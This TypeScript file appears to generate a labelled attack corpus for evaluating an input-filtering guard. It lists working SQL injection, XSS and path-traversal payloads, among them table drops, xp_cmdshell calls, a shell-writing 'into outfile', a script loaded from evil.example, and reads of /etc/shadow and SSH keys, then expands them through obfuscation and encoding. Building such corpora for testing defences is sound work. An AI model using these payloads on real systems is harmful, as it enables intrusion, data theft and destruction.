import {
  ENCODINGS,
  otherWhitespace,
  prng,
  randomCase,
  type Random,
  type Transform,
} from './guard-corpus-encodings.js';

/** One labelled attack of the evaluation corpus. */
export interface AttackCase {
  category: 'sql_injection' | 'xss' | 'path_traversal';
  payload: string;
}

/** Payload shapes seen in real SQL injection traffic and tools (sqlmap, payload lists). */
const SQL_BASES = [
  "' or '1'='1",
  "' or 1=1--",
  "' or 1=1#",
  "' or 1=1/*",
  "admin'--",
  "admin' #",
  "admin'/*",
  "' or 'x'='x",
  "' or ''='",
  '" or ""="',
  '" or 1=1--',
  "') or ('1'='1",
  "')) or (('1'='1",
  "1' or '1'='1' --",
  "' or 1=1 limit 1 --",
  '1 or 1=1',
  '1) or (1=1',
  '1)) or ((1=1',
  '-1 or 1=1',
  '1 and 1=1',
  '1 and 1=2',
  "1' and '1'='2",
  "1' and 1=1 and 'a'='a",
  "' and 1=0 --",
  "' union select null--",
  "' union select null,null,null--",
  '1 union all select 1,2,3--',
  '-1 union select username, password from users--',
  "' union select @@version,2--",
  "1' union select table_name from information_schema.tables--",
  "0 union select load_file('/etc/passwd')",
  '1; drop table users--',
  "'; drop table users; --",
  '1; delete from orders',
  "'; insert into users values ('x','y')--",
  "'; update users set role='admin' where id=1--",
  "'; exec xp_cmdshell('whoami')--",
  '1; shutdown--',
  "'; waitfor delay '0:0:5'--",
  "1; waitfor delay '00:00:10'",
  "' and sleep(5)--",
  '1 and sleep(5)',
  "' or sleep(5)#",
  "1' and benchmark(5000000,md5(1))--",
  "'; select pg_sleep(5)--",
  '1 or pg_sleep(5)--',
  "' and extractvalue(1,concat(0x7e,version()))--",
  "' and updatexml(1,concat(0x7e,user()),1)--",
  "' and 1=convert(int,@@version)--",
  '1 and (select count(*) from users) > 0',
  "' and ascii(substring((select password from users limit 1),1,1))>64--",
  '1 and substring(version(),1,1)=5',
  "' or exists(select * from users)--",
  "1' order by 1--",
  "1' order by 10--+",
  '1 order by 3',
  "' group by columnnames having 1=1--",
  "' having 1=1--",
  "' or username like '%admin%",
  "%' and 1=1 and '%'='",
  "1' and 'a' like 'a",
  "' || (select user) || '",
  '1 and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))',
  "' and 1=dbms_pipe.receive_message('a',10)--",
  '1 rlike (select 1 from dual)',
  "' or true--",
  "') or true--",
  '1 or true',
  "' or 2>1--",
  "1' and (select 1 from (select(sleep(5)))a)--",
  "x' and 1=(select count(*) from tabname); --",
  "' into outfile '/var/www/shell.php'--",
  '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)',
  "' and 1 in (select @@version)--",
];

const SQL_KEYWORDS = [
  'union',
  'select',
  'from',
  'where',
  'and',
  'or',
  'sleep',
  'order',
  'insert',
  'drop',
  'having',
  'exec',
];

/** `/**\/` for every space. */
const commentSpaces: Transform = (p) => p.replaceAll(' ', '/**/');
/** MySQL executable comments around keywords: `/*!50000union*\/`. */
const versioned: Transform = (p) =>
  p.replace(new RegExp(`\\b(${SQL_KEYWORDS.join('|')})\\b`, 'gi'), '/*!50000$1*/');
/** Keywords split by a comment, for apps that strip comments: `un/**\/ion`. */
const splitKeywords: Transform = (p) =>
  p.replace(
    new RegExp(`\\b(${SQL_KEYWORDS.filter((k) => k.length > 3).join('|')})\\b`, 'gi'),
    (w) => `${w.slice(0, 2)}/**/${w.slice(2)}`,
  );

const XSS_SINK_CALLS = [
  'alert(1)',
  'prompt(1)',
  'confirm(document.domain)',
  'alert`1`',
  'eval(atob("YWxlcnQoMSk="))',
  'alert(document.cookie)',
];

/** XSS vectors from filter-evasion cheat sheets; `$` is replaced by a script call. */
const XSS_BASES = [
  '<script>$</script>',
  '<script src=https://evil.example/x.js></script>',
  '"><script>$</script>',
  "'><script>$</script>",
  '</script><script>$</script>',
  '<img src=x onerror=$>',
  '<img src="x" onerror="$">',
  '"><img src=x onerror=$>',
  '<svg onload=$>',
  '<svg/onload=$>',
  '<body onload=$>',
  '<iframe src="javascript:$">',
  '<iframe srcdoc="<script>$</script>">',
  '<a href="javascript:$">click</a>',
  '<a href=javascript:$>x</a>',
  '" onmouseover="$',
  "' onfocus='$' autofocus='",
  '" autofocus onfocus="$',
  ' onerror=$ ',
  'javascript:$',
  ' javascript:$',
  'vbscript:msgbox(1)',
  'data:text/html,<script>$</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<details open ontoggle=$>',
  '<input autofocus onfocus=$>',
  '<select autofocus onfocus=$>',
  '<textarea autofocus onfocus=$>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<marquee onstart=$>',
  '<object data="javascript:$">',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<div style="background:url(javascript:$)">',
  '<div style="width:expression($)">',
  '<math><mtext><img src=x onerror=$>',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<IMG """><SCRIPT>$</SCRIPT>">',
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<form action="javascript:$"><input type=submit>',
  '<button formaction=javascript:$>x</button>',
  '<isindex type=image src=1 onerror=$>',
  '<base href="javascript:$//">',
  '<link rel=stylesheet href="javascript:$">',
  '<x onclick=$>click me',
  '<body onpageshow=$>',
  '<img src=1 onload=$>',
  '<style>@import "javascript:$";</style>',
  '<table background="javascript:$">',
  "';$//",
  '";$//',
  "'-$-'",
  '"-$-"',
  "'+$+'",
  "\\';$//",
  '};$;{',
  '<a href="  javascript:$">x</a>',
  '<a href="java\tscript:$">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<xss onafterscriptexecute=$><script>1</script>',
  '<svg><script>$</script></svg>',
  '<!--<img src="--><img src=x onerror=$//">',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
];

/** Spaces inside tags replaced by `/`, as browsers accept: `<svg/onload=…>`. */
const slashSpaces: Transform = (p) => p.replaceAll(' ', '/');
/** A null byte inside the first tag name or keyword: `<scr\0ipt>`. */
const nullInside: Transform = (p) =>
  p.replace(
    /(script|img|svg|javascript|onerror|onload)/i,
    (w) => `${w.slice(0, 3)}\0${w.slice(3)}`,
  );

const TRAVERSAL_TARGETS = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'windows/win.ini',
  'boot.ini',
  'windows/system32/drivers/etc/hosts',
  'var/log/apache2/access.log',
  'root/.ssh/id_rsa',
  'app/config/database.yml',
  'WEB-INF/web.xml',
  '.env',
  'config.php',
  'var/www/html/.htaccess',
  'usr/local/app/settings.py',
];
const DOT_SEGMENTS = [
  '../',
  '..\\',
  '%2e%2e%2f',
  '%2e%2e/',
  '..%2f',
  '%2e%2e%5c',
  '..%5c',
  '%252e%252e%252f',
  '..%252f',
  '%c0%ae%c0%ae%c0%af',
  '..%c0%af',
  '..%c1%9c',
  '%uff0e%uff0e/',
  '....//',
  '..././',
  '..;/',
  '.%2e/',
  '%2e./',
  '%u002e%u002e%u002f',
];
const PATH_PREFIXES = [
  '',
  '/',
  'images/',
  '/var/www/uploads/',
  'file=',
  'C:\\inetpub\\wwwroot\\',
  './',
];
const PATH_SUFFIXES = ['', '%00', '%00.png', '\0.jpg', '?', '#'];
const ABSOLUTE = [
  '/etc/passwd',
  'file:///etc/passwd',
  'file://localhost/etc/shadow',
  'c:\\windows\\win.ini',
  'C:/boot.ini',
  'php://filter/convert.base64-encode/resource=index.php',
  'php://input',
  'phar://uploads/avatar.jpg/shell',
  'zip://shell.jpg#payload.php',
  'expect://id',
  '/proc/self/environ',
  '/var/log/nginx/access.log',
  '\\\\?\\C:\\Windows\\win.ini',
  '/root/.ssh/id_rsa',
  '/.git/config',
];

function expand(
  bases: readonly string[],
  obfuscations: readonly Transform[],
  random: Random,
  category: AttackCase['category'],
): AttackCase[] {
  const out: AttackCase[] = [];
  for (const base of bases) {
    for (const obfuscate of obfuscations) {
      for (const encode of Object.values(ENCODINGS)) {
        // Each base × obfuscation gets every encoding once, so no form is over-represented.
        out.push({ category, payload: encode(obfuscate(base, random), random) });
      }
    }
  }
  return out;
}

/** The deterministic attack corpus: several thousand payloads per category. */
export function generateAttacks(): AttackCase[] {
  const random = prng(0x6b657977);
  const identity: Transform = (p) => p;
  const sql = expand(
    SQL_BASES,
    [identity, randomCase, commentSpaces, otherWhitespace, versioned, splitKeywords],
    random,
    'sql_injection',
  );
  const xssBases = XSS_BASES.flatMap((base, i) => [
    base.replaceAll('$', XSS_SINK_CALLS[i % XSS_SINK_CALLS.length] as string),
  ]);
  const xss = expand(
    xssBases,
    [identity, randomCase, slashSpaces, otherWhitespace, nullInside],
    random,
    'xss',
  );
  const traversalBases: string[] = [...ABSOLUTE];
  for (const target of TRAVERSAL_TARGETS) {
    for (const segment of DOT_SEGMENTS) {
      const depth = 1 + Math.floor(random() * 8);
      const prefix = PATH_PREFIXES[Math.floor(random() * PATH_PREFIXES.length)] as string;
      const suffix = PATH_SUFFIXES[Math.floor(random() * PATH_SUFFIXES.length)] as string;
      const sep =
        segment.includes('\\') || segment.includes('%5c') ? target.replaceAll('/', '\\') : target;
      traversalBases.push(`${prefix}${segment.repeat(depth)}${sep}${suffix}`);
    }
  }
  // Bases that are already percent-encoded get only one more layer: five layers of
  // encoding is not something an application decodes, so it would not be an attack.
  const encoded = traversalBases.filter((b) => b.includes('%'));
  const traversal = [
    ...expand(
      traversalBases.filter((b) => !b.includes('%')),
      [identity, randomCase],
      random,
      'path_traversal',
    ),
    ...encoded
      .flatMap((payload) => [
        payload,
        ENCODINGS.url?.(payload, random) ?? payload,
        randomCase(payload, random),
      ])
      .map((payload): AttackCase => ({ category: 'path_traversal', payload })),
  ];
  const seen = new Set<string>();
  return [...sql, ...xss, ...traversal].filter((c) => {
    const id = `${c.category}\0${c.payload}`;
    if (seen.has(id)) return false;
    seen.add(id);
    return true;
  });
}
